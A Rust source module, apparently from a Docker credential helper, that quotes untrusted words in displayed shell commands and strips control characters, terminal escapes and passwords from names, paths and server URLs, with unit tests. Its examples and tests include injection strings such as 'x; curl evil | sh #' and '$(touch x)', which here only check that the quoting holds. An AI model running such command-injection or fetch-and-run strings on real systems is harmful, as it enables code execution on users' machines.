//! Formats commands, names and paths for people, so that untrusted text can't end a line, move the cursor, or
//! become a part of a command that the reader pastes.

use std::ffi::{OsStr, OsString};
use std::fmt;
use std::path::{Path, PathBuf};

use crate::text::{is_harmless, quoted};
use crate::{Environment, ServerUrl};

/// A command line for a POSIX shell (PowerShell on Windows), shown by `Display`.
///
/// Literal parts come from our source and stay unchanged; untrusted parts are quoted if necessary.
///
/// ```
/// use docker_credential_helper::show::ShellCommand;
///
/// let command = ShellCommand::new("docker login").word("x; curl evil | sh #");
/// # if cfg!(unix) {
/// assert_eq!(command.to_string(), "docker login 'x; curl evil | sh #'");
/// # }
/// ```
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ShellCommand {
    text: String,
    words: Vec<OsString>,
}

impl ShellCommand {
    /// Begins with `literal`, which is already valid shell: `chmod 600`.
    #[must_use]
    pub fn new(literal: &str) -> Self {
        let empty = Self {
            text: String::new(),
            words: Vec::new(),
        };
        empty.literal(literal)
    }

    /// Adds one untrusted word, such as a server or a file name.
    #[must_use]
    pub fn word(mut self, word: impl AsRef<OsStr>) -> Self {
        self.words.push(word.as_ref().to_owned());
        self.shown(&quoted(word.as_ref()))
    }

    /// Adds a path, which begins with `~/` if it is below the home.
    #[must_use]
    pub fn path(mut self, environment: &Environment, path: &Path) -> Self {
        self.words.push(path.into());
        match below_home(environment, path) {
            Some(rest) if rest.as_os_str().is_empty() => self.shown("~"),
            Some(rest) => self.shown(&format!("~/{}", quoted(rest.as_os_str()))),
            None => self.shown(&quoted(path.as_os_str())),
        }
    }

    /// Prepends a directory to the shell's `PATH`.
    #[must_use]
    pub fn path_first(directory: &Path) -> Self {
        let path = quoted(directory.as_os_str());
        Self::new("export").literal(&format!("PATH={path}:\"$PATH\""))
    }

    /// Adds our own words, separated by spaces, that are already valid shell.
    #[must_use]
    pub fn literal(mut self, words: &str) -> Self {
        self.words.extend(words.split_whitespace().map(OsString::from));
        self.shown(words)
    }

    /// The program and its arguments, to run it without a shell.
    pub fn words(&self) -> &[OsString] {
        &self.words
    }

    fn shown(mut self, words: &str) -> Self {
        if !self.text.is_empty() {
            self.text.push(' ');
        }
        self.text.push_str(words);
        self
    }
}

impl fmt::Display for ShellCommand {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.text)
    }
}

/// For a command without untrusted words.
impl From<&'static str> for ShellCommand {
    fn from(literal: &'static str) -> Self {
        Self::new(literal)
    }
}

/// An untrusted name (a user, a helper, a key in a file) in one line: control and invisible characters become
/// escapes such as `\u{1b}`, and long names are cut.
pub fn name(text: &str) -> String {
    const SHOWN: usize = 200;
    let mut shown = String::new();
    for c in text.chars().take(SHOWN) {
        if is_harmless(c) {
            shown.push(c);
        } else {
            shown.extend(c.escape_default());
        }
    }
    if text.chars().nth(SHOWN).is_some() {
        shown.push('…');
    }
    shown
}

/// As [`name`], for a server as somebody wrote it. Omits a user name and password before the host.
pub fn server(text: &str) -> String {
    match ServerUrl::parse(text) {
        Ok(server) => name(&server.to_string()),
        Err(_) => name(text.rsplit('@').next().unwrap_or_default()),
    }
}

/// A path in one line, with `~` for the home.
pub fn path(environment: &Environment, path: &Path) -> String {
    let shown = match below_home(environment, path) {
        Some(rest) => Path::new("~").join(rest),
        None => path.to_owned(),
    };
    name(&shown.to_string_lossy())
}

/// A message in one line, in which paths below the home begin with `~`. For texts of code that doesn't know
/// the home, such as errors. Keeps a quoted path, in which a shell would not expand `~`.
pub fn text(environment: &Environment, text: &str) -> String {
    let line = crate::text::one_line(text);
    let Some(home) = home(environment) else {
        return line;
    };
    let home = home.to_string_lossy().into_owned();
    let mut shown = String::new();
    let mut rest = line.as_str();
    while let Some(at) = rest.find(&home) {
        let after = &rest[at + home.len()..];
        // Not if it is a part of a longer path or name.
        let starts = !rest[..at].ends_with(|c: char| c.is_alphanumeric() || "/._-~'\"".contains(c));
        let ends = !after.starts_with(|c: char| c.is_alphanumeric() || "._-".contains(c));
        shown.push_str(&rest[..at]);
        shown.push_str(if starts && ends { "~" } else { &home });
        rest = after;
    }
    shown + rest
}

/// `count` and its noun: `1 entry`, `0 entries`.
pub fn count(count: usize, one: &str, many: &str) -> String {
    format!("{count} {}", if count == 1 { one } else { many })
}

/// The first names of a list, and the number of others.
pub fn some<T: AsRef<str>>(names: &[T]) -> String {
    const SHOWN: usize = 5;
    let shown: Vec<&str> = names.iter().take(SHOWN).map(AsRef::as_ref).collect();
    match names.len().saturating_sub(SHOWN) {
        0 => shown.join(", "),
        more => format!("{} and {more} more", shown.join(", ")),
    }
}

/// The path relative to the home, if a shell's `~` means the same: only if HOME is set.
fn below_home(environment: &Environment, path: &Path) -> Option<PathBuf> {
    let rest = path.strip_prefix(home(environment)?).ok()?;
    Some(rest.to_owned())
}

fn home(environment: &Environment) -> Option<PathBuf> {
    if cfg!(windows) {
        return None;
    }
    let home = PathBuf::from(environment.variable("HOME")?);
    // Every path would be below the root directory.
    (home.is_absolute() && home.parent().is_some()).then_some(home)
}

#[cfg(all(test, unix))]
mod tests {
    use super::*;

    fn at_home() -> Environment {
        Environment::stated("docker-credential-test", [("HOME", "/home/me")])
    }

    #[test]
    fn a_plain_word_stays_as_it_is() {
        let command = ShellCommand::new("docker login").word("registry.example:5000");
        assert_eq!(command.to_string(), "docker login registry.example:5000");
    }

    #[test]
    fn a_shell_reads_every_word_back() {
        use std::os::unix::ffi::OsStrExt;
        let words: [&[u8]; 10] = [
            b"; touch x #",
            b"$(touch x)",
            b"`x`",
            b"it's",
            b"",
            b"~",
            b"a\x1b[31m%s\\",
            "r\u{202e}l\u{9b}".as_bytes(),
            b"\xff\xfe",
            b"a\nb",
        ];
        for word in words {
            let command = ShellCommand::new("printf %s")
                .word(OsStr::from_bytes(word))
                .to_string();
            assert!(
                !command.contains(|c: char| c.is_control() || c == '\u{202e}'),
                "{command:?}"
            );
            let output = std::process::Command::new("sh")
                .arg("-c")
                .arg(&command)
                .output()
                .unwrap();
            assert_eq!(output.stdout, word, "{command}");
        }
    }

    #[test]
    fn a_path_below_the_home_begins_with_a_tilde() {
        let home = at_home();
        assert_eq!(path(&home, Path::new("/home/me/.docker")), "~/.docker");
        assert_eq!(path(&home, Path::new("/home/me2/x")), "/home/me2/x");
        let command = ShellCommand::new("chmod 600").path(&home, Path::new("/home/me/my keys/x"));
        assert_eq!(command.to_string(), "chmod 600 ~/'my keys/x'");
        let homeless = Environment::stated("x", [("HOME", "/")]);
        assert_eq!(path(&homeless, Path::new("/etc/x")), "/etc/x");
    }

    #[test]
    fn a_message_has_tildes_only_for_the_home_itself() {
        let shown = |message| text(&at_home(), message);
        assert_eq!(
            shown("cannot read /home/me/.docker/config.json: gone"),
            "cannot read ~/.docker/config.json: gone"
        );
        assert_eq!(
            shown("/home/me, /home/mel/x, /mnt/home/me/x"),
            "~, /home/mel/x, /mnt/home/me/x"
        );
        assert_eq!(
            shown("run: chmod 600 '/home/me/a b'"),
            "run: chmod 600 '/home/me/a b'"
        );
    }

    #[test]
    fn a_name_is_shown_without_controls() {
        assert_eq!(name("a\u{1b}[31m\u{202e}ü\n"), "a\\u{1b}[31m\\u{202e}ü\\n");
        assert_eq!(name("two words"), "two words");
    }

    #[test]
    fn a_server_is_shown_without_its_password() {
        assert_eq!(server("https://me:hunter2@ghcr.io"), "https://…@ghcr.io");
        assert_eq!(server("me:hunter2@ghcr.io"), "…@ghcr.io");
        assert_eq!(server("ghcr.io"), "ghcr.io");
    }

    #[test]
    fn counts_are_in_good_english() {
        assert_eq!(count(1, "entry", "entries"), "1 entry");
        assert_eq!(count(0, "entry", "entries"), "0 entries");
    }
}
